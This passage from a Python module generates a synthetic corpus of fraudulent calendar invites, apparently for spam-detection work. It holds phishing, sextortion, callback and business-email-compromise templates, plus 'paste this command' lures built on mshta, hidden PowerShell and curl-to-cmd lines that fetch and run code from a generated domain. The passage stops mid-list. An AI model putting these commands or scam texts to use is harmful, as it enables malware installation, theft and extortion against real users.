"""Spam and calendar-borne fraud.  All wording, brands' look-alike domains,
people and numbers are invented for this corpus."""
import datetime as dt
from build import rotate, text_for, att, event, base_vals, place, fdate
from common import (person, local_part, phone, mobile, money, short_id, company_domain, org_name, throwaway_domain,
                    lookalike, company_lookalike, btc_addr, latin)
from mimekit import alnum, hexid
from tx_spam import TX

CATS = {  # category -> (count, description, compatible clients)
    "retail-sale": (12, "discount retail goods", ["google", "apple", "yahoo", "outlook", "custom", "list", "thunderbird"]),
    "prize-survey": (12, "prize, survey and gift-card lures", ["google", "outlook", "apple", "custom", "booking", "yahoo", "zoom", "nextcloud", "list"]),
    "crypto-investment": (12, "crypto and investment fraud", ["google", "outlook", "apple", "zoom", "custom", "yahoo", "list", "thunderbird", "booking"]),
    "dating-sextortion": (11, "dating lures and sextortion", ["google", "apple", "yahoo", "custom", "outlook", "thunderbird", "nextcloud"]),
    "fee-scam": (12, "delivery, toll, tax and fine fee scams", ["booking", "custom", "outlook", "google", "zimbra", "sogo", "nextcloud", "apple"]),
    "credential-phish": (16, "credential phishing under big brands", ["outlook", "custom", "zimbra", "sogo", "google", "nextcloud", "booking", "thunderbird", "apple", "zoom"]),
    "callback-scam": (12, "tech-support and renewal callback scams (phone only)", ["google", "apple", "outlook", "yahoo", "custom", "booking", "zoom"]),
    "fake-update": (10, "fake client updates and paste-this-command lures", ["zoom", "outlook", "google", "custom", "thunderbird", "nextcloud", "sogo"]),
    "bec": (14, "business e-mail compromise", ["outlook", "google", "yahoo", "thunderbird", "zimbra", "apple", "sogo", "custom"]),
    "advance-fee": (10, "advance-fee fraud", ["yahoo", "outlook", "google", "zimbra", "sogo", "custom", "list", "thunderbird", "apple"]),
    "task-job-scam": (11, "task/job scams moving victims to messengers", ["google", "outlook", "yahoo", "apple", "zoom", "custom", "booking", "list"]),
    "doc-share-compromised": (12, "document-share lures from compromised partner mailboxes", ["outlook", "google", "zimbra", "thunderbird", "sogo", "nextcloud", "apple"]),
    "nagging-payload": (8, "nagging payloads: endless recurrence, many alarms, far-future dates", ["custom", "google", "apple", "outlook", "nextcloud", "list", "yahoo", "thunderbird"]),
    "mass-invite": (8, "mass invitations to hundreds of unrelated attendees", ["google", "outlook", "apple", "yahoo", "custom", "list", "zimbra", "thunderbird"]),
}

YEARS = {"fake-update": (2019, 2026), "crypto-investment": (2017, 2026), "task-job-scam": (2020, 2026),
         "retail-sale": (2016, 2024), "callback-scam": (2018, 2026), "doc-share-compromised": (2017, 2026)}


def me(c, name=None):
    return att(name, c.rcpt)


def harvested(c, n, seed_domains=None):
    rng = c.rng
    doms = seed_domains or ["example.net", "example.org", "example.com", "mail.example.net", "gmail.com", "yahoo.com",
                            "hotmail.com", "outlook.com", "aol.com", "icloud.com", "comcast.net", "web.de", "orange.fr",
                            "qq.com", "163.com", "naver.com", "mail.ru"] + [company_domain(rng, rng.choice(["en", "de", "fr", "es", "ja"])) for _ in range(15)]
    out = set()
    stems = ["info", "sales", "admin", "office", "contact", "support", "hr", "jobs", "team", "hello", "mail", "service"]
    while len(out) < n:
        l = rng.random()
        if l < 0.35:
            nm, fl, ll = person(rng, rng.choice(["en", "de", "fr", "es", "it", "pt", "nl", "pl"]))
            lp = local_part(rng, fl, ll)
        elif l < 0.55:
            lp = rng.choice(stems)
        else:
            lp = alnum(rng, rng.randint(4, 9), "abcdefghijklmnopqrstuvwxyz") + (str(rng.randint(1, 999)) if rng.random() < 0.5 else "")
        out.add(f"{lp}@{rng.choice(doms)}")
    return sorted(out)


def shop_url(c, words):
    rng = c.rng
    w = rng.choice(words).lower().replace(" ", "")
    d = f"{w}{rng.choice(['-outlet', 'sale', '-store', 'deals', '-official', 'shop', '-clearance'])}{rng.randint(1, 99) if rng.random() < 0.4 else ''}{rng.choice(['.shop', '.top', '.com', '.store', '.xyz', '.online'])}"
    return f"https://www.{d}/" + rng.choice(["", "?id=" + alnum(rng, 8), "sale/" + alnum(rng, 5).lower(), "index.html"])


# =================================================================== retail
EN_RETAIL = [
    dict(sum="Ray-Ban & Oakley Sunglasses Clearance - Up To 85% OFF Today Only", d="Summer clearance on {brand} sunglasses. All styles from $19.99, free shipping on every order.\nOffer ends {date}.", brand="Ray-Ban", cta="Shop now:"),
    dict(sum="UGG Boots Black Friday Sale 80% off", d="Classic Mini, Tall and Ultra from $39.99. Limited stock - sizes are going fast.", brand="UGG", cta="Order here:"),
    dict(sum="Michael Kors handbags $39.99 - final stock", d="Hi {first},\nWarehouse clearance: {brand} totes, crossbody and wallets at up to 90% off. Only this weekend.", brand="Michael Kors", cta=""),
    dict(sum="Pandora Charms Outlet: 3 for $29", d="New season charms and bracelets. Buy 3 get 1 free, free gift box with every order.", brand="Pandora", cta="Visit:"),
    dict(sum="Your member discount expires tonight - 70% off running shoes", d="Thanks for being a member! As a thank-you we unlocked 70% off selected {brand} running shoes until midnight.", brand="Nike", cta="Unlock your price:"),
    dict(sum="Kate Spade bags up to 90% OFF", d="kate spade new york - spring collection - free shipping - 30-day returns", brand="Kate Spade", cta=""),
    dict(sum="Dyson Airwrap for $79 (limited units)", d="Clearance of last year's display units. Full warranty. 214 left in stock.", brand="Dyson", cta="Check availability"),
    dict(sum="Canada Goose Parka Clearance From $129", d="Winter is coming. Authentic {brand} parkas & jackets, factory direct, duty free.", brand="Canada Goose", cta="SHOP:"),
]
RETAIL_BRANDS = {"de": "Birkenstock", "es": "Zara", "zh": "Coach", "zh-tw": "LV", "ja": "Chanel", "th": "Pandora"}


def retail(c):
    rng = c.rng
    T = text_for(c, EN_RETAIL, TX)
    brand = T.get("brand") or RETAIL_BRANDS.get(c.lang, "Ray-Ban")
    url = shop_url(c, [brand.replace("-", "").replace("&", ""), "brandoutlet", "megasale"])
    shopname = rng.choice([f"{brand} Sale", f"{brand} Outlet", None, None])
    nm, ad, kind = c.identity(["free", "vps", "lookalike"], name=shopname or None, domain=throwaway_domain(rng))
    if shopname is None and rng.random() < 0.5:
        ad = alnum(rng, rng.randint(6, 10), "abcdefghijklmnopqrstuvwxyz") + rng.choice(["", str(rng.randint(10, 99))]) + "@" + ad.split("@")[1]
    s, e = c.ev_time(days=(0, 6), hours=(0, 23), dur=(60, 180))
    v = base_vals(c, brand=brand, url=url, date=fdate(c, s))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    n_more = rng.choice([0, 0, 3, 8, 20])
    if n_more:
        ev["attendees"] += [att(None, a) for a in harvested(c, n_more)]
    slot = place(c, ev, url, ["desc", "location", "url"], T.get("cta", ""))
    ev["alarms"] = rng.choice([[], [15], [60, 1440]])
    return dict(frm=(nm, ad), events=[ev], desc=f"{brand} discount sale, link in {slot}")


def fill_(s, v):
    from common import fill
    return fill(s, v)


# =================================================================== prize / survey / gift card
EN_PRIZE = [
    dict(sum="Congratulations {first}! Your {brand} reward is waiting", d="You have been selected to receive a {amount} {brand} gift card as part of our customer appreciation week. Complete a short 30-second survey to claim it before {date}.", brand="Costco", cta="Claim:"),
    dict(sum="Customer Survey - {brand} - Win an iPhone 16 Pro", d="Dear customer,\nWe value your opinion. Answer 5 questions about your recent shopping experience and you could win a brand-new iPhone 16 Pro. Only shipping ({amount}) required.", brand="Walmart", cta="Start survey:"),
    dict(sum="Reminder: unclaimed loyalty points expire {date}", d="Your {brand} account holds 12,480 unused points (value {amount}). Redeem them for gift cards before they expire.", brand="Shell", cta="Redeem now"),
    dict(sum="You've won! Official notification #{code}", d="Your e-mail address was drawn in our monthly sweepstakes. Prize: {brand} gift card worth {amount}. To release the prize, confirm your shipping details.", brand="Amazon", cta="Confirm:"),
    dict(sum="Thank you for being a loyal {brand} customer", d="Hello {first}, as a loyal customer you qualify for a free Ninja air fryer. Just pay {amount} delivery. Limited to the first 100 customers today.", brand="Kohl's", cta=""),
    dict(sum="Frequent flyer bonus: 50,000 miles pending", d="Your {brand} bonus of 50,000 miles is pending. Please verify your membership within 48 hours to have the miles credited.", brand="SkyMiles", cta="Verify membership:"),
]
PRIZE_BRANDS = {"fr": "Carrefour", "pl": "Biedronka", "el": "Lidl", "ar": "Noon", "ko": "Coupang", "hi": "Flipkart"}


def prize(c):
    rng = c.rng
    T = text_for(c, EN_PRIZE, TX)
    brand = T.get("brand") or PRIZE_BRANDS.get(c.lang, "Lidl")
    tok = latin(brand)[:8] or "reward"
    url = f"https://{lookalike(rng, [tok, 'reward', 'survey', 'giftcard'])}/{rng.choice(['claim', 's', 'r', 'win'])}/{alnum(rng, 10)}"
    nm, ad, kind = c.identity(["free", "lookalike", "vps", "esp"], name=rng.choice([f"{brand} Rewards", f"{brand} Customer Care", None]),
                              domain=lookalike(rng, [tok, "rewards", "promo"]))
    s, e = c.ev_time(days=(0, 5), hours=(7, 22), dur=(30, 60))
    v = base_vals(c, brand=brand, amount=money(rng, c.lang, 50, 1000, False), date=fdate(c, s))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    slot = place(c, ev, url, ["location", "url", "altdesc", "desc", "attach"], T.get("cta", ""))
    spec = dict(frm=(nm, ad), events=[ev], desc=f"{brand} reward/survey lure, link in {slot}")
    if c.base == "booking":
        spec["booking"] = dict(brand=rng.choice(["Evently", "TicketLoop", "RSVPme"]), prodid="-//Evently//Event Export 2.1//EN",
                               host="evently.example.com", uid_dom="evently.example.com", filename="event.ics")
        spec["subject"] = f"You're registered: {ev['summary']}"
        spec["body"] = ev["description"] + f"\n\n{url}\n\nThis message was sent via Evently on behalf of the organizer."
        spec["reply_to"] = (nm, ad)
        spec["frm"] = (f"{nm or brand} via Evently", "no-reply@evently.example.com")
        spec["sender_kind"] = "esp"
    return spec


# =================================================================== crypto / investment
EN_CRYPTO = [
    dict(sum="Pending withdrawal: 0.8342 BTC - action required", d="Hello {first},\nA withdrawal of 0.8342 BTC ({amount}) from your {brand} wallet is pending. If you did not request it, cancel within 24 h to secure your funds.", brand="Coinbase", cta="Review withdrawal:"),
    dict(sum="Private webinar: how our members earn 30% per month", d="Join our senior analyst for a free live session. Limited to 50 seats. Our AI trading bot has returned 31.4% per month since 2021. Minimum deposit {amount}.", brand="QuantumEdge", cta="Reserve seat:"),
    dict(sum="Your account manager call - {brand}", d="Dear {first}, as discussed your personal account manager will call you to activate your trading account. Your current balance is {amount}. Please have your ID ready.", brand="Capitalix Markets", cta="Dashboard:"),
    dict(sum="BTC airdrop: claim your 0.05 BTC before {date}", d="To celebrate 10 million users, {brand} is giving back. Connect your wallet and receive 0.05 BTC instantly.", brand="Binance", cta="Claim airdrop:"),
    dict(sum="Retirement income seminar (lunch included)", d="Learn how to turn {amount} into passive income with gold-backed digital assets. Guaranteed 12% annual yield, no risk. Free lunch for registered guests.", brand="Sterling Gold Trust", cta="RSVP:"),
    dict(sum="Ledger Live: mandatory asset verification", d="Due to new regulations all Ledger users must verify their recovery phrase before {date}. Unverified wallets will be frozen.", brand="Ledger", cta="Verify:"),
]
CRYPTO_BRANDS = {"it": "Bitpanda", "pt": "Mercado Bitcoin", "ru": "Garantex", "ar": "Rain", "he": "Bits of Gold", "zh-tw": "MAX"}


def crypto(c):
    rng = c.rng
    T = text_for(c, EN_CRYPTO, TX)
    brand = T.get("brand") or CRYPTO_BRANDS.get(c.lang, "Binance")
    tok = latin(brand)[:9] or "wallet"
    url = f"https://{lookalike(rng, [tok, 'wallet', 'trade', 'invest'])}/{rng.choice(['login', 'verify', 'webinar', 'a', 'claim'])}?ref={alnum(rng, 8)}"
    nm, ad, kind = c.identity(["free", "compromised", "lookalike"], name=rng.choice([brand, f"{brand} Support", None, None]),
                              domain=lookalike(rng, [tok, "capital", "finance"]))
    s, e = c.ev_time(days=(0, 10), hours=(9, 21), dur=(30, 90))
    v = base_vals(c, brand=brand, amount=money(rng, c.lang, 250, 45000), date=fdate(c, s), wa=mobile(rng, c.lang))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    if c.base == "zoom":
        ev["conference"] = None
        ev["description"] += f"\n\n{url}"
        slot = "desc"
    else:
        slot = place(c, ev, url, ["url", "location", "altdesc", "attach", "desc"], T.get("cta", ""))
    ev["alarms"] = rng.choice([[10], [30, 1440], []])
    spec = dict(frm=(nm, ad), events=[ev], desc=f"{brand} crypto/investment lure, link in {slot}")
    if c.base == "booking":
        spec["booking"] = dict(brand="Eventure", prodid="-//Eventure//Ticketing//EN", host="eventure.example.net",
                               uid_dom="eventure.example.net", filename="invite.ics")
        spec["subject"] = f"Your ticket: {ev['summary']}"
        spec["body"] = ev["description"] + f"\n\nOrganiser: {brand}\nJoin link: {url}"
        spec["frm"] = (f"{brand} (via Eventure)", "tickets@eventure.example.net")
        spec["sender_kind"] = "esp"
    return spec


# =================================================================== dating / sextortion
EN_DATING = [
    dict(sum="Anna (26) sent you a private message", d="Hi {first}! I saw your profile and I think we'd get along :) I'm new in town and would love to meet tonight. My photos are here, text me.", cta=""),
    dict(sum="Video call with Kristina 22:00", d="hey, it's Kristina from the app. my phone is broken so let's talk on video here. don't be shy ;)", cta="my page:"),
    dict(sum="3 women near you want to meet", d="You have 3 unread messages and 7 new likes. Matches close to {rdomain} are waiting. Free registration for 24 hours.", cta="See who likes you:"),
    dict(sum="Re: payment", d="I'll be direct. I installed a program on a video site you visited and recorded you through your camera. I also have your contacts. Send $1450 in Bitcoin to {btc} within 48 hours, or the video goes to everyone you know. The timer started when you opened this.", cta=""),
    dict(sum="Your account password", d="I know your password and I know what you watch. Pay 0.021 BTC to the wallet {btc}. You have two days. Do not reply, this address is not monitored.", cta=""),
    dict(sum="Sophie wants to chat", d="Hi, I'm Sophie, 29. Tired of dating apps full of fakes. Here is my private profile with real pics", cta=""),
]


def dating(c):
    rng = c.rng
    T = text_for(c, EN_DATING, TX)
    v = base_vals(c, btc=btc_addr(rng), amount=money(rng, c.lang, 800, 2500, False))
    sext = "{btc}" in (T["d"] or "") or "BTC" in (T["d"] or "") or "Bitcoin" in (T["d"] or "")
    dom = throwaway_domain(rng)
    url = f"https://{rng.choice(['meet', 'hot', 'date', 'flirt', 'love'])}{rng.choice(['local', 'now', 'singles', 'chat', '4u'])}{rng.randint(1, 99)}{rng.choice(['.top', '.xyz', '.club', '.site', '.online'])}/{rng.choice(['p', 'u', 'id', 'profile'])}/{alnum(rng, 7)}"
    fname = rng.choice(["Anna", "Kristina", "Sophie", "Jessica", "Alina", "Vika", "Mila", "Lena"])
    nm, ad, kind = c.identity(["free", "vps", "spoof"], name=None if sext else fname, domain=dom,
                              local=(alnum(rng, 8, "abcdefghijklmnopqrstuvwxyz") if sext else None))
    if sext and rng.random() < 0.5 and kind == "spoof":
        ad = c.rcpt  # "sent from your own account"
    s, e = c.ev_time(days=(0, 3), hours=(18, 23), dur=(30, 60))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    slot = "desc"
    if not sext:
        slot = place(c, ev, url, ["url", "location", "desc", "attach"], T.get("cta", ""))
    ev["alarms"] = [rng.choice([5, 10, 30])]
    return dict(frm=(nm, ad), events=[ev], desc=("sextortion demand with BTC wallet" if sext else f"dating lure, link in {slot}"))


# =================================================================== fee scams
EN_FEE = [
    dict(sum="DHL: Delivery attempt failed - reschedule ({code})", d="Your parcel {code} could not be delivered because the address was incomplete. A redelivery fee of {amount} applies. Choose a new delivery slot below.", brand="DHL", cta="Reschedule delivery:"),
    dict(sum="USPS Redelivery Appointment", d="USPS: package {code} is held at the facility. Confirm redelivery and pay the {amount} handling charge within 12 hours.", brand="USPS", cta=""),
    dict(sum="Unpaid toll notice - {amount} due", d="Our records show an unpaid toll balance of {amount} for your vehicle. Pay before {date} to avoid a late fee of $50.", brand="E-ZPass", cta="Pay toll:"),
    dict(sum="HMRC: tax refund of {amount} approved", d="After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of {amount}. Please submit the refund request.", brand="HMRC", cta="Submit request:"),
    dict(sum="Parking penalty charge notice PCN {code}", d="A penalty charge has been issued for your vehicle. Pay {amount} within 14 days (discounted rate) to avoid court proceedings.", brand="ParkingEye", cta="View evidence & pay:"),
    dict(sum="Customs fee outstanding for shipment {code}", d="Import duty of {amount} must be paid before your shipment can be released for delivery.", brand="FedEx", cta=""),
]
FEE_BRANDS = {"de": "DHL", "fr": "ANTAI", "es": "Correos", "it": "Poste Italiane", "nl": "PostNL", "pl": "InPost"}


def fee(c):
    rng = c.rng
    T = text_for(c, EN_FEE, TX)
    brand = T.get("brand") or FEE_BRANDS.get(c.lang, "DHL")
    tok = latin(brand)[:8]
    dom = lookalike(rng, [tok, tok + "-track", "parcel", "toll", "redelivery"])
    url = f"https://{dom}/{rng.choice(['pay', 'track', 'p', 'redelivery', 'fee'])}/{alnum(rng, 8)}"
    nm, ad, kind = c.identity(["lookalike", "esp", "compromised", "spoof", "vps"], name=brand + rng.choice(["", " Service", " Notification", " Express"]),
                              domain=dom if rng.random() < 0.6 else throwaway_domain(rng),
                              local=rng.choice(["noreply", "info", "service", "notification", "delivery"]))
    s, e = c.ev_time(days=(0, 3), hours=(8, 18), dur=(60, 120))
    code = rng.choice(["JJD", "RR", "LX", "CH", "JD"]) + str(rng.randint(10**9, 10**10)) + rng.choice(["DE", "US", "GB", "NL", ""])
    v = base_vals(c, brand=brand, code=code, amount=money(rng, c.lang, 0.3, 12), date=fdate(c, s))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [me(c)])
    slot = place(c, ev, url, ["url", "location", "desc"], T.get("cta", ""))
    spec = dict(frm=(nm, ad), events=[ev], desc=f"{brand} fee scam, payment link in {slot}")
    if c.base == "booking":
        spec["booking"] = dict(brand=brand, prodid=rng.choice([f"-//{brand}//Delivery Slot//EN", "-//Timeslot Manager 3.0//EN"]),
                               host=dom, uid_dom=dom, filename="delivery.ics", color="#d40511")
        spec["subject"] = ev["summary"]
        spec["body"] = ev["description"] + (f"\n\n{url}" if slot != "desc" else "") + f"\n\n{brand}"
        spec["method"] = rng.choice(["PUBLISH", "REQUEST"])
    return spec


# =================================================================== credential phishing
EN_PHISH = [
    dict(sum="Password expiry notice for {rcpt}", d="The password for {rcpt} expires today. To keep using your current password, confirm it before 23:59.", brand="Microsoft 365", cta="Keep current password:"),
    dict(sum="DocuSign: Please review and sign - {company} Payment Agreement", d="{sender} sent you a document to review and sign.\nDocument: {company}_Payment_Agreement_{year}.pdf\nPlease complete within 3 days.", brand="DocuSign", cta="REVIEW DOCUMENT"),
    dict(sum="New voice message (0:{sec}) from {phone}", d="You received a new voicemail.\nFrom: {phone}\nDuration: 0:{sec}\nTranscription unavailable.", brand="Microsoft Teams", cta="Play message:"),
    dict(sum="Your PayPal account has been limited", d="We noticed unusual activity and temporarily limited your account. Please confirm your information to restore full access.", brand="PayPal", cta="Resolve now:"),
    dict(sum="Shared: Q{q} Remittance Advice.pdf", d="{sender} shared a file with you via {brand}.\n\"Please find the remittance advice attached. Let me know if anything is missing.\"", brand="Adobe Acrobat", cta="View PDF"),
    dict(sum="Mailbox storage full - messages on hold", d="Your mailbox {rcpt} has reached 99% of its quota. 14 incoming messages are on hold. Upgrade your storage for free to release them.", brand="Webmail", cta="Release messages:"),
    dict(sum="Dropbox Transfer: {company} project files", d="You have received 6 files (48.2 MB) via Dropbox Transfer. The link expires in 7 days.", brand="Dropbox", cta="Download files:"),
    dict(sum="IRS: action needed on your {year} tax return", d="We could not verify your identity for your {year} tax return. Verify your identity online to avoid a delay in processing your refund.", brand="IRS", cta="Verify identity:"),
    dict(sum="Chase: security hold on card ending {last4}", d="We placed a temporary hold on your debit card ending {last4} after a suspicious purchase. Sign in to review the transaction.", brand="Chase", cta="Review activity:"),
    dict(sum="HR Portal: Updated employee handbook acknowledgment required", d="All employees must acknowledge the updated {year} handbook and benefits election via the HR portal using their company credentials.", brand="HR", cta="Acknowledge:"),
]
PHISH_BRANDS = {"de": "Sparkasse", "fr": "Ameli", "es": "BBVA", "pt": "gov.br", "nl": "DigiD", "el": "gov.gr", "he": "Bank Hapoalim", "ja": "SMBC"}


def phish(c):
    rng = c.rng
    T = text_for(c, EN_PHISH, TX)
    brand = T.get("brand") or PHISH_BRANDS.get(c.lang, "Microsoft 365")
    tok = latin(brand)[:10] or "account"
    host_kind = rng.random()
    if host_kind < 0.35:
        url = f"https://{lookalike(rng, [tok, 'm365', 'office', 'secure-login', 'sso'])}/{rng.choice(['login', 'auth', 'owa', 'signin', 'verify'])}?e={c.rcpt.replace('@', '%40')}"
    elif host_kind < 0.6:
        url = f"https://{alnum(rng, 10, 'abcdefghijklmnopqrstuvwxyz')}.{rng.choice(['web.app', 'pages.dev', 'r2.dev', 'netlify.app', 'firebaseapp.com', 'blob.core.windows.net', 'workers.dev'])}/{alnum(rng, 6)}#{c.rcpt}"
    elif host_kind < 0.8:
        url = f"https://{company_domain(rng, rng.choice(['en', 'de', 'fr', 'pt']))}/wp-content/uploads/{c.arrival.year}/{rng.randint(1, 12):02d}/{alnum(rng, 6)}/index.php"
    else:
        url = f"https://{throwaway_domain(rng)}/{alnum(rng, 12)}"
    prefs = ["compromised", "lookalike", "spoof", "vps", "esp"]
    nm, ad, kind = c.identity(prefs, name=rng.choice([brand, f"{brand} Team", None, "IT Service Desk", "Administrator"]),
                              domain=lookalike(rng, [tok, "notify", "mail"]) if rng.random() < 0.5 else None,
                              local=rng.choice([None, "no-reply", "notification", "admin", "helpdesk"]))
    if kind == "spoof":
        ad = rng.choice(["it-support", "admin", "no-reply", "postmaster"]) + "@" + c.rdomain
        nm = rng.choice(["IT Support", "Mail Administrator", f"{org_name(c.rdomain)} IT"])
    s, e = c.ev_time(days=(0, 2), hours=(7, 18), dur=(15, 30))
    sname, _, _ = person(rng, c.lang)
    v = base_vals(c, brand=brand, sender=sname, sec=f"{rng.randint(10, 59)}", q=str(rng.randint(1, 4)),
                  last4=str(rng.randint(1000, 9999)), date=fdate(c, s))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    slot = place(c, ev, url, ["altdesc", "attach", "url", "location", "conference", "desc"], T.get("cta", ""),
                 filename=rng.choice(["Document.pdf", "Voicemail.wav.html", "Remittance.pdf", "Secure_Message.html"]))
    spec = dict(frm=(nm, ad), events=[ev], desc=f"{brand} credential phishing, link in {slot}")
    if rng.random() < 0.25 and c.base in ("custom", "outlook"):
        spec["mail_note"] = ""
    if c.base == "booking":
        spec["booking"] = dict(brand=brand, prodid=rng.choice(["-//Appointlet//EN", "-//Bookwise Scheduler//EN", "-//SimplyMeet//EN"]),
                               host="meet.bookwise.example", uid_dom="bookwise.example", filename="invite.ics")
        spec["subject"] = ev["summary"]
        spec["body"] = ev["description"] + (f"\n\n{url}" if slot != "desc" else "")
    if c.base == "zoom" and slot != "desc":
        ev["description"] += f"\n\n{url}"
    return spec


# =================================================================== callback scams
EN_CALLBACK = [
    dict(sum="Norton 360 Renewal Confirmation - Invoice #{ref}", d="Your subscription for Norton 360 Total Protection has been renewed for {amount}. The amount will be charged within 24 hours. If you did not authorise this renewal, call our billing department: {phone}", brand="Norton"),
    dict(sum="Geek Squad: auto-renewal successful", d="Thank you for renewing your Geek Squad Protection plan.\nOrder ID: GS-{ref}\nAmount: {amount}\nPayment method: auto-debit\n\nTo cancel or dispute, contact support at {phone} (Mon-Sun 24/7).", brand="Geek Squad"),
    dict(sum="PayPal invoice {ref}: {amount} for Bitcoin purchase", d="You have a new invoice from Crypto Services LLC.\nAmount due: {amount}\nIf this wasn't you, do not pay. Call PayPal Resolution Center at {phone}.", brand="PayPal"),
    dict(sum="Windows Defender license expired", d="Your Windows Defender Firewall license expired on {date}. Your computer is unprotected. Call certified Microsoft technicians now: {phone}", brand="Microsoft"),
    dict(sum="Amazon order #{ref2}: Apple iPhone 15 Pro Max 256GB", d="Thank you for your order!\nApple iPhone 15 Pro Max 256GB - Natural Titanium\nTotal: {amount}\nDelivery: 2-3 business days\n\nDidn't place this order? Call Amazon customer support immediately: {phone}", brand="Amazon"),
    dict(sum="McAfee subscription will auto-renew today", d="Dear customer, McAfee LiveSafe (5 devices) will renew automatically today. Charge: {amount}. For refund call {phone}.", brand="McAfee"),
]


def callback(c):
    rng = c.rng
    T = text_for(c, EN_CALLBACK, TX)
    brand = T.get("brand") or "Norton"
    ph = phone(rng, c.lang, tollfree=(c.lang == "en"))
    nm, ad, kind = c.identity(["free", "vps", "lookalike"], name=rng.choice([f"{brand} Billing", "Billing Department", None, "Support"]),
                              domain=throwaway_domain(rng))
    s, e = c.ev_time(days=(0, 2), hours=(8, 20), dur=(15, 30))
    v = base_vals(c, brand=brand, phone=ph, amount=money(rng, c.lang, 299, 799), ref2=f"{rng.randint(100, 999)}-{rng.randint(1000000, 9999999)}-{rng.randint(1000000, 9999999)}",
                  date=fdate(c, s))
    summ = fill_(T["sum"], v)
    d = fill_(T["d"], v)
    ev = event(c, summ, d, s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    where = rng.random()
    if where < 0.35:
        ev["location"] = ph if rng.random() < 0.5 else f"Call {ph}" if c.lang == "en" else ph
    if where > 0.8:
        ev["summary"] = summ + f" {ph}"
    if c.base == "outlook" and rng.random() < 0.5 and c.arrival.year >= 2020:
        ev["conference"] = f"https://teams.microsoft.com/l/meetup-join/19%3ameeting_{alnum(rng, 48)}%40thread.v2/0?context=%7b%22Tid%22%3a%22{hexid(rng, 8)}%22%7d"
    spec = dict(frm=(nm, ad), events=[ev], desc=f"{brand} renewal/invoice callback scam, phone number only")
    if c.base == "booking":
        spec["booking"] = dict(brand=brand + " Billing", prodid="-//Calendar Labs//Add to calendar//EN", host="addevent.example.org",
                               uid_dom="addevent.example.org", filename="invoice.ics")
        spec["subject"] = summ
        spec["body"] = d
    return spec


# =================================================================== fake updates / paste-this-command
EN_UPDATE = [
    dict(sum="Zoom: update required to join {org} meeting", d="Your Zoom client version is no longer supported. Install the latest version before the meeting starts to avoid audio issues.", cta="Download Zoom Workplace:", file="ZoomInstallerFull.msi"),
    dict(sum="Teams meeting - verification required", d="Hello {first},\nBefore joining, please complete the quick security check:\n1. Press Windows + R\n2. Paste the code below (Ctrl + V) and press Enter\n3. Return to this invite\n\n{cmd}", cta="", file=None),
    dict(sum="Board call - install the Webex plug-in", d="This meeting uses the new secure Webex plug-in. Please install it from the link before the call.", cta="Install plug-in:", file="webex_setup.exe"),
    dict(sum="Action required: Chrome security update", d="A critical vulnerability affects your browser version. Update now to continue accessing shared calendars.", cta="Update Chrome:", file="ChromeSetup.exe"),
    dict(sum="I'm not a robot - confirm attendance", d="To confirm you are human and keep your seat, open Run (Win+R), paste:\n{cmd}\nand press OK. The verification window closes automatically.", cta="", file=None),
    dict(sum="Skype for Business client update ({code})", d="IT has scheduled an update of your meeting client. Please install the package manually if it does not start automatically.", cta="Package:", file="SfBUpdate.zip"),
]


def update(c):
    rng = c.rng
    T = text_for(c, EN_UPDATE, TX)
    dom = throwaway_domain(rng) if rng.random() < 0.5 else lookalike(rng, ["zoom", "teams", "meet", "webex", "update"])
    fn = T.get("file") or rng.choice(["setup.exe", "update.msi", "client.zip"])
    url = f"https://{dom}/{rng.choice(['download', 'dl', 'get', 'files'])}/{fn}"
    cmd = rng.choice([f'mshta https://{dom}/verify?u={alnum(rng, 6)}  # I am not a robot - ID {rng.randint(1000, 9999)}',
                      f'powershell -w hidden -c "iwr https://{dom}/c/{alnum(rng, 5)} | iex"',
                      f'cmd /c curl -s https://{dom}/v | cmd  ::Cloudflare verification ID {rng.randint(10000, 99999)}'])
    nm, ad, kind = c.identity(["compromised", "free", "lookalike", "vps"], name=rng.choice([None, "Meeting Host", "IT Support"]))
    s, e = c.ev_time(days=(0, 4), hours=(8, 17), dur=(30, 60))
    oname = org_name(company_domain(rng, c.lang))
    v = base_vals(c, org=oname, cmd=cmd, date=fdate(c, s))
    ev = event(c, fill_(T["sum"], v), fill_(T["d"], v), s, e, (nm, ad), [att(nm, ad, "ACCEPTED"), me(c)])
    if "{cmd}" in (T["d"] or "") or "cmd" in T.get("kind", ""):
        slot = "desc"
    else:
        slot = place(c, ev, url, ["attach", "conference", "url", "location", "altdesc", "desc"], T.get("cta", ""), fmttype="application/octet-stream", filename=fn)
    if c.base == "zoom" and slot != "desc":
        ev["description"] += f"\n\n{url}"
    return dict(frm=(nm, ad), events=[ev], desc=f"fake client update / paste-command lure ({slot})")


# =================================================================== BEC
EN_BEC = [
    dict(sum="Quick task - are you available?", d="{first}, are you at your desk? I need you to handle a confidential task for me today. I'm in back-to-back meetings so reply by e-mail only.\n\n{sender}\nSent from my iPhone", kind="ceo"),
    dict(sum="Gift cards for client appreciation", d="Hi {first}, I want to surprise some of our key clients. Please purchase 8 x $200 Apple gift cards today and send me the codes by e-mail. I'll reimburse you. Keep it between us for now.\n{sender}", kind="ceo"),
    dict(sum="Updated remittance details - invoice {inv}", d="Dear {first},\nPlease note our bank account has changed due to an ongoing audit. Kindly update our records before processing invoice {inv} ({amount}). New details:\nBank: Crestline Commercial Bank\nIBAN: {iban}\nSWIFT: CRCBGB2L\nPlease confirm once updated.\n\nKind regards,\n{sender}\nAccounts Receivable", kind="supplier"),
    dict(sum="Direct deposit change", d="Hello, I recently changed banks and need my direct deposit updated before the next payroll. What information do you need from me? I can't access the HR portal at the moment.\nThanks,\n{sender}", kind="payroll"),
    dict(sum="Call: wire for acquisition (confidential)", d="{first}, we are closing a confidential acquisition. Our attorney will contact you with wire instructions for the escrow deposit ({amount}). Do not discuss this with anyone else in the office until it is announced.", kind="ceo"),
